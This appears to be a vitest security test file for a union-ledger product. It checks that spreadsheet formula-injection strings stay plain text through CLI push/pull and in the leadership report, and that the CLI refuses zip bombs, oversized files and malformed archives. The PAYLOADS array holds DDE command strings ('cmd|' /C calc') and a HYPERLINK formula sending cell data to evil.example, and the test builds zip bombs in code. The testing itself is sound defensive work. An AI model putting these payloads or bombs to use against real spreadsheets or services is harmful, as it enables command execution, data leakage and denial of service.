import { mkdtemp, open, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PullResponse } from '../../shared/api/index.js';
import type { LocalStack } from '../../functions/src/local/stack.js';
import { MAX_UNZIPPED_BYTES, MAX_WORKBOOK_BYTES } from '../../cli/src/xlsx/openWorkbook.js';
import { client, memberRow, testStack } from '../backend/helpers.js';
import { runCli } from '../support/cli.js';
import { recordFigures } from './support/figures.js';
import { bombPart, part, xlsxSkeleton, zip } from './support/zip.js';

/**
 * Issue 7 §7 — workbooks. User text that a spreadsheet would take for a formula (`=`, `+`, `-`,
 * `@`, the classic `=cmd|' /C calc'!A0` DDE payload) travels through the server and back into
 * every workbook the product writes — the CLI's push/pull write-back into the officer's own
 * file, and the leadership workbook (GET /api/reports/annual.xlsx) — and must never become a
 * formula there. And hostile files given to the CLI (a zip bomb, a 200 MB file, a zip whose
 * directory lies, thousands of parts) are refused with a clear Chinese message in bounded
 * memory and time.
 */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example/?"&A1,"点此")',
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];

let dir: string;
let stack: LocalStack;
const figures: Record<string, unknown> = {};

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'union-ledger-reliability-'));
  stack = await testStack();
}, 60_000);
afterAll(async () => {
  await stack?.close();
  await rm(dir, { recursive: true, force: true });
  recordFigures('workbooks', figures);
});

/** Every worksheet's formulas, and where each payload shows up, in an .xlsx. */
async function inspect(file: Buffer): Promise<{
  formulas: string[];
  payloadCells: { sheet: string; ref: string; type: string | null; style: string | null }[];
  quotePrefixStyles: Set<number>;
}> {
  const z = await JSZip.loadAsync(file);
  const shared = (await z.file('xl/sharedStrings.xml')?.async('string')) ?? '';
  const strings = [...shared.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
    [...m[1]!.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => unescapeXml(t[1]!)).join(''),
  );
  const styles = (await z.file('xl/styles.xml')?.async('string')) ?? '';
  const cellXfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
  const quotePrefixStyles = new Set<number>();
  [...cellXfs.matchAll(/<xf\b[^>]*>/g)].forEach((m, i) => {
    if (/quotePrefix="1"/.test(m[0]) || /numFmtId="49"/.test(m[0])) quotePrefixStyles.add(i);
  });
  const formulas: string[] = [];
  const payloadCells: { sheet: string; ref: string; type: string | null; style: string | null }[] = [];
  for (const name of Object.keys(z.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
    const xml = await z.file(name)!.async('string');
    for (const f of xml.matchAll(/<f\b[^>]*>([\s\S]*?)<\/f>/g)) formulas.push(unescapeXml(f[1]!));
    for (const c of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = c[1]!;
      const inner = c[2] ?? '';
      const type = /\bt="(\w+)"/.exec(attrs)?.[1] ?? null;
      const value = /<v>([\s\S]*?)<\/v>/.exec(inner)?.[1];
      const text =
        type === 's' && value !== undefined
          ? strings[Number(value)]
          : type === 'inlineStr'
            ? unescapeXml(/<t[^>]*>([\s\S]*?)<\/t>/.exec(inner)?.[1] ?? '')
            : value !== undefined
              ? unescapeXml(value)
              : '';
      if (text !== undefined && PAYLOADS.some((p) => text.includes(p.slice(0, 12))))
        payloadCells.push({
          sheet: name,
          ref: /\br="(\w+)"/.exec(attrs)?.[1] ?? '?',
          type,
          style: /\bs="(\d+)"/.exec(attrs)?.[1] ?? null,
        });
    }
  }
  return { formulas, payloadCells, quotePrefixStyles };
}

function unescapeXml(s: string): string {
  return s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');
}

describe('formula injection (issue 7 §7)', () => {
  it('keeps user text as text in the officer’s own workbook through CLI push and pull', async () => {
    const file = path.join(dir, '会员名册.xlsx');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('会员名册');
    ws.addRow(['工号', '姓名', '所属工会', '性别', '入会日期', '部门', '备注']);
    PAYLOADS.forEach((p, i) =>
      ws.addRow([
        `FX${1000 + i}`,
        `注入${i}`,
        '机电学院工会',
        i % 2 ? '男' : '女',
        '2015-09-01',
        p.slice(0, 40),
        p,
      ]),
    );
    await wb.xlsx.writeFile(file);
    const env = { LOCAL_AUTH_SECRET: stack.secret };
    const pushed = await runCli(
      ['push', file, '--api', stack.url, '--user', 'officer-mech-info', '--json'],
      env,
    );
    expect(pushed.code, pushed.stderr).toBe(0);

    // Someone else edits those rows on the server with more of the same; the officer pulls.
    const admin = client(stack.url, stack.tokens.admin);
    const rows = (await admin.get<PullResponse>('ledgers/members/rows?limit=1000')).body.rows;
    const ours = rows.filter((r) => String(r.fields.staffNo).startsWith('FX'));
    expect(ours).toHaveLength(PAYLOADS.length);
    const edits = ours.map((r, i) => ({
      rowId: r.rowId,
      baseRev: r.rev,
      cells: {
        staffNo: r.fields.staffNo as string,
        name: r.fields.name as string,
        unit: '机电学院工会',
        gender: r.fields.gender as string,
        joinDate: '2015-09-01',
        department: PAYLOADS[(i + 1) % PAYLOADS.length]!.slice(0, 40),
        remarks: PAYLOADS[(i + 2) % PAYLOADS.length]!,
      },
    }));
    expect((await admin.push('members', edits)).every((r) => r.status === 'updated')).toBe(true);
    const pulled = await runCli(
      ['pull', file, '--api', stack.url, '--user', 'officer-mech-info', '--json'],
      env,
    );
    expect(pulled.code, pulled.stderr).toBe(0);

    const { readFile } = await import('node:fs/promises');
    const found = await inspect(await readFile(file));
    figures.cliWriteBack = { payloadCells: found.payloadCells.length, formulas: found.formulas.length };
    expect(found.payloadCells.length).toBeGreaterThanOrEqual(PAYLOADS.length * 2);
    expect(found.formulas).toEqual([]);
    for (const c of found.payloadCells)
      expect(['s', 'inlineStr', 'str'], `${c.sheet} ${c.ref}`).toContain(c.type);
    // Read back as exceljs reads it: plain strings, never { formula }.
    const again = new ExcelJS.Workbook();
    await again.xlsx.readFile(file);
    again
      .getWorksheet('会员名册')!
      .eachRow((row) =>
        row.eachCell((cell) =>
          expect(typeof cell.value === 'object' && cell.value !== null && 'formula' in cell.value).toBe(
            false,
          ),
        ),
      );
  }, 120_000);

  it('keeps user text as text in the leadership workbook', async () => {
    const admin = client(stack.url, stack.tokens.admin);
    await admin.push(
      'members',
      PAYLOADS.map((p, i) =>
        memberRow('文新学院工会', { department: p.slice(0, 40), remarks: p, name: `报表${i}` }),
      ),
    );
    const r = await fetch(`${stack.url}/reports/annual.xlsx?year=2023`, {
      headers: { authorization: `Bearer ${stack.tokens.leader}` },
    });
    expect(r.status).toBe(200);
    const found = await inspect(Buffer.from(await r.arrayBuffer()));
    figures.leadershipWorkbook = {
      payloadCells: found.payloadCells.length,
      formulasWithUserText: found.formulas.filter((f) => PAYLOADS.some((p) => f.includes(p.slice(1)))).length,
      payloadCellsWithoutTextFormat: found.payloadCells.filter(
        (c) => !found.quotePrefixStyles.has(Number(c.style)),
      ).length,
    };
    expect(found.payloadCells.length).toBeGreaterThanOrEqual(PAYLOADS.length);
    for (const f of found.formulas) for (const p of PAYLOADS) expect(f).not.toContain(p.slice(1, 12));
    for (const c of found.payloadCells) {
      expect(['s', 'inlineStr', 'str'], `${c.sheet} ${c.ref}`).toContain(c.type);
      // The builder's promise (reports/safeText.ts): formula-like text gets the text format and a quote prefix.
      expect(found.quotePrefixStyles.has(Number(c.style)), `${c.sheet} ${c.ref} style ${c.style}`).toBe(true);
    }
  }, 60_000);
});

describe('hostile files given to the CLI (issue 7 §7)', () => {
  /** Loaded into the CLI's process: prints its peak resident memory as it exits. */
  const probe = (): string => path.join(dir, 'rss-probe.cjs');
  beforeAll(() =>
    writeFile(
      probe(),
      "process.on('exit', () => require('fs').writeSync(2, `\\nMAXRSS_KB ${process.resourceUsage().maxRSS}\\n`));\n",
    ),
  );

  /** `union-ledger validate FILE` in a child with a 256 MB heap cap, measuring its peak memory and time. */
  async function validate(
    file: string,
  ): Promise<{ code: number; stderr: string; ms: number; maxRssMB: number }> {
    const t = Date.now();
    const run = await runCli(['validate', file], {
      NODE_OPTIONS: `--max-old-space-size=256 --require ${probe()}`,
    });
    const ms = Date.now() - t;
    const kb = Number(/MAXRSS_KB (\d+)/.exec(run.stderr)?.[1] ?? NaN);
    return {
      code: run.code,
      stderr: run.stderr.replace(/\nMAXRSS_KB \d+\n/, ''),
      ms,
      maxRssMB: Math.round(kb / 1024),
    };
  }

  it('refuses a zip bomb, a lying zip, a zip of 20 000 parts and a 200 MB file, quickly and in bounded memory', async () => {
    const row = Buffer.from('<row><c t="inlineStr"><is><t>炸</t></is></c></row>'.repeat(1 << 14));
    const chunk = Buffer.concat(
      Array.from({ length: Math.ceil((16 << 20) / row.length) }, () => row),
    ).subarray(0, 16 << 20);
    const files: Record<string, string> = {};
    // 1 GiB of sheet XML in about a megabyte, honestly declared.
    files.bomb = path.join(dir, 'bomb.xlsx');
    await writeFile(files.bomb, zip([...xlsxSkeleton(), bombPart('xl/worksheets/sheet1.xml', chunk, 64)]));
    // The same, with a directory that claims the sheet is 2 KB.
    files.lying = path.join(dir, 'lying.xlsx');
    await writeFile(
      files.lying,
      zip([...xlsxSkeleton(), bombPart('xl/worksheets/sheet1.xml', chunk, 64, 2048)]),
    );
    // 20 000 tiny parts.
    files.parts = path.join(dir, 'parts.xlsx');
    await writeFile(
      files.parts,
      zip([...xlsxSkeleton(), ...Array.from({ length: 20_000 }, (_, i) => part(`xl/media/x${i}.xml`, 'x'))]),
    );
    // 200 MB on disk (sparse), starting like a zip.
    files.huge = path.join(dir, 'huge.xlsx');
    const handle = await open(files.huge, 'w');
    await handle.write(Buffer.from([0x50, 0x4b, 0x03, 0x04]), 0, 4, 0);
    await handle.truncate(200 * 1024 * 1024);
    await handle.close();

    // What the CLI takes to validate a small ordinary workbook: the baseline for "bounded".
    files.ordinary = path.join(dir, 'ordinary.xlsx');
    const ordinary = new ExcelJS.Workbook();
    ordinary.addWorksheet('会员名册').addRow(['工号', '姓名', '所属工会', '性别', '入会日期']);
    ordinary.getWorksheet('会员名册')!.addRow(['A1001', '张三', '机电学院工会', '男', '2015-09-01']);
    await ordinary.xlsx.writeFile(files.ordinary);

    // Side by side: each is its own process, measured on its own.
    const results: Record<string, Awaited<ReturnType<typeof validate>>> = Object.fromEntries(
      await Promise.all(
        Object.entries(files).map(async ([name, file]) => [name, await validate(file)] as const),
      ),
    );
    const baseline = results.ordinary!;
    delete results.ordinary;
    expect(baseline.code, baseline.stderr).toBe(0);
    figures.cliBaseline = { ms: baseline.ms, maxRssMB: baseline.maxRssMB };
    figures.hostileFiles = Object.fromEntries(
      Object.entries(results).map(([k, v]) => [
        k,
        { exit: v.code, ms: v.ms, maxRssMB: v.maxRssMB, message: v.stderr.trim() },
      ]),
    );
    figures.limits = { maxFileMB: MAX_WORKBOOK_BYTES / 2 ** 20, maxUnzippedMB: MAX_UNZIPPED_BYTES / 2 ** 20 };
    for (const [name, r] of Object.entries(results)) {
      expect(r.code, `${name}: ${r.stderr}`).toBe(2);
      expect(r.stderr, name).toMatch(/^错误：.*[\u4e00-\u9fff]/);
      expect(r.stderr, name).not.toMatch(/\bat \S+ \(|heap out of memory/);
      expect(r.ms, name).toBeLessThan(20_000);
      // Bounded: no more than an ordinary small workbook takes, give or take 64 MB.
      expect(r.maxRssMB, name).toBeLessThan(baseline.maxRssMB + 64);
    }
    expect(results.bomb!.stderr).toMatch(/解压后超过/);
    expect(results.lying!.stderr).toMatch(/解压后超过|实际大小与目录不符/);
    expect(results.parts!.stderr).toMatch(/部件/);
    expect(results.huge!.stderr).toMatch(/文件过大/);
  }, 120_000);
});
